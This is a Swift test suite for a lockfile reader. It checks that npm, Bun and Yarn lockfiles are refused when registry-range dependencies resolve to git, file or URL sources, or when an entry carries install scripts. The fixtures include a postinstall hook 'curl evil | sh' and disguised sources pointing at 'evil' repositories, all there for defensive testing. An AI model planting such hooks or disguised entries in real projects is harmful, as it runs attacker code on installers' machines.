import Foundation
import LockfileFormats
import Testing

/// An entry that installs from git, a file or a URL while every edge reaching it asks for a
/// registry version refuses the lockfile: npm checks only the version against the range, so
/// `npm ci` would clone that source, unverified (found by review). A source some edge asks for
/// stays a listed, not verifiable entry.
@Suite struct DisguisedSourceTests {
    static func npmLock(root: String, entries: String) -> String {
        #"{"lockfileVersion": 3, "packages": {"": {"dependencies": {\#(root)}}, \#(entries)}}"#
    }

    static let gitEntry = #""node_modules/g": {"version": "1.0.0", "resolved": "https://github.com/evil/g/tarball/v1.0.0", "integrity": "sha512-x"}"#

    @Test(arguments: [
        #""node_modules/g": {"version": "1.0.0", "resolved": "https://github.com/evil/g/tarball/v1.0.0", "integrity": "sha512-x"}"#,
        #""node_modules/g": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/evil/g.git#0123"}"#,
        #""node_modules/g": {"version": "1.0.0", "resolved": "file:../g-1.0.0.tgz"}"#,
        #""node_modules/g": {"version": "1.0.0", "resolved": "../evil"}"#,
    ])
    func aSourceOnlyRegistrySpecsReachRefusesTheLockfile(entry: String) {
        let text = Self.npmLock(root: #""g": "^1.0.0""#, entries: entry)
        let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "package-lock.json") }
        #expect(error?.message.contains("node_modules/g") == true)
        #expect(error?.message.contains("the root asks for g@^1.0.0") == true)
    }

    /// Found by review: npm ci runs the scripts a lockfile entry carries; npm never writes any.
    @Test func anEntryCarryingScriptsRefusesTheLockfile() {
        let entry = #""node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x", "scripts": {"postinstall": "curl evil | sh"}}"#
        let text = Self.npmLock(root: #""a": "^1.0.0""#, entries: entry)
        let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "package-lock.json") }
        #expect(error?.message.contains("node_modules/a carries scripts, which npm ci would run") == true)
    }

    @Test func aNestedRegistryRangeReachingAGitEntryRefusesIt() {
        let text = Self.npmLock(root: #""a": "^1.0.0""#, entries: Self.gitEntry + #", "node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x", "dependencies": {"g": "~1.0.0"}}"#)
        let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "package-lock.json") }
        #expect(error?.message.contains("node_modules/a asks for g@~1.0.0") == true)
    }

    /// The project asks for git itself; a registry range deduplicated onto it is npm's own doing.
    @Test func aGitEntrySomeEdgeAsksForIsListedNotRefused() throws {
        let text = Self.npmLock(root: #""g": "github:evil/g", "a": "^1.0.0""#, entries: Self.gitEntry + #", "node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x", "dependencies": {"g": "^1.0.0"}}"#)
        let lock = try LockfileReader().read(Data(text.utf8), fileName: "package-lock.json")
        let git = lock.packages.first { $0.key == "node_modules/g" }
        guard case .notVerifiable(let reason)? = git?.kind else { Issue.record("expected a not verifiable git entry"); return }
        #expect(reason.hasPrefix("git dependency"))
    }

    @Test func aVersion1LockfileIsHeldToTheSameRule() {
        let text = #"{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-x", "requires": {"g": "^1.0.0"}}, "g": {"version": "1.0.0", "resolved": "https://gitlab.com/evil/g/-/archive/v1.tar.gz"}}}"#
        let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "package-lock.json") }
        #expect(error?.message.contains("node_modules/a asks for g@^1.0.0") == true)
    }

    /// Found by review: Bun reads any reference that is no exact version as a source (`owner/repo`
    /// as GitHub, `x.tgz` as a tarball), with or without a prefix.
    @Test(arguments: ["github:evil/g#0123", "evil/g#0123", "evil/g", "evil.tgz", "vendor/evil.tgz", "^1.0.0"])
    func bunRefusesASourceOnlyRegistrySpecsReach(reference: String) {
        let text = #"{"lockfileVersion": 1, "workspaces": {"": {"name": "app", "dependencies": {"g": "^1.0.0"}}}, "packages": {"g": ["g@\#(reference)", {}, "evil-g-0123"]}}"#
        let error = #expect(throws: LockfileError.self, "\(reference)") { try LockfileReader().read(Data(text.utf8), fileName: "bun.lock") }
        #expect(error?.message.contains("the root asks for g@^1.0.0") == true, "\(error?.message ?? "")")
    }

    /// Bun links a workspace for a range its version meets: no disguise.
    @Test func bunWorkspaceReachedByARangeIsNotRefused() throws {
        let text = #"{"lockfileVersion": 1, "workspaces": {"": {"name": "app", "dependencies": {"w": "^1.0.0"}}, "packages/w": {"name": "w", "version": "1.0.0"}}, "packages": {"w": ["w@workspace:packages/w"]}}"#
        let lock = try LockfileReader().read(Data(text.utf8), fileName: "bun.lock")
        #expect(lock.packages.contains { $0.key == "w" })
    }

    @Test func yarnClassicRefusesAGitResolutionOfARange() {
        let text = "# yarn lockfile v1\n\n\ng@^1.0.0, g@~1.0.0:\n  version \"1.0.0\"\n  resolved \"https://codeload.github.com/evil/g/tar.gz/0123\"\n  integrity sha512-x\n"
        let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "yarn.lock") }
        #expect(error?.message.contains("g@^1.0.0, g@~1.0.0 ask for a registry package") == true)
    }

    @Test func yarnClassicListsAGitDescriptorsResolution() throws {
        let text = "# yarn lockfile v1\n\n\n\"g@github:evil/g\":\n  version \"1.0.0\"\n  resolved \"https://codeload.github.com/evil/g/tar.gz/0123\"\n"
        let lock = try LockfileReader().read(Data(text.utf8), fileName: "yarn.lock")
        guard case .notVerifiable(let reason)? = lock.packages.first?.kind else { Issue.record("expected a not verifiable entry"); return }
        #expect(reason.hasPrefix("git dependency"))
    }

    @Test func yarnBerryRefusesAGitResolutionOfAnNpmDescriptor() {
        let text = "__metadata:\n  version: 8\n  cacheKey: 10\n\n\"g@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"g@https://github.com/evil/g.git#commit=0123\"\n  checksum: 10/abc\n  languageName: node\n  linkType: hard\n"
        let error = #expect(throws: LockfileError.self) { try LockfileReader().read(Data(text.utf8), fileName: "yarn.lock") }
        #expect(error?.message.contains("g@npm:^1.0.0 ask for a registry package") == true)
    }
}
